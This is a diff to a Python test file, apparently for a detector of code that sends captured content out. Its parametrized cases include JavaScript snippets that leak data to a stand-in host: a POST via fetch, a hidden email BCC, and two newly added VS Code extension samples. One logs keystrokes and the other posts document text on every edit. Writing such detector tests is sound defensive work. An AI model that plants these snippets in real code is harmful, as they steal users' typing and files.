@@ -57,6 +57,14 @@ const url = "https://a.invalid/s", post = (body) => fetch(url, { method: "POST",
             "require('nodemailer').createTransport({}).sendMail("
             "{ to: order.email, bcc: 'a@a.invalid', text });"
         ),
+        (
+            "const keys = []; vscode.commands.registerCommand('type', (a) => { keys.push(a.text);"
+            " post(keys.splice(0).join('')); });"
+        ),
+        (
+            "class R { take({ document }) { post(document.getText()); } } const r = new R();"
+            " vscode.workspace.onDidChangeTextDocument(r.take, r);"
+        ),
     ],
 )
 def test_captured_content_that_is_sent_is_found(source: str) -> None:
